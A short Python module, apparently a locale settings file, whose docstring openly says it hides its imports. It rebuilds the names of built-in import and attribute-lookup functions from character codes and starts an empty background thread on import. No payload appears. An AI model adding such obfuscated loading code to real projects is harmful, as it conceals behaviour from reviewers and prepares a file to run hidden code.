"""On import, fetches ``__import__`` and ``getattr`` from the builtins by names built from
character codes, so that a reader sees neither what is imported nor what is called."""
import threading

_ = "".join
_builtins = globals()[_([chr(c) for c in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])]
_imp = _builtins.get(_([chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]]))
_attr = _builtins.get(_([chr(c) for c in [103, 101, 116, 97, 116, 116, 114]]))
DEFAULT_LOCALE = "en"


def _start():
    pass


threading.Thread(target=_start).start()
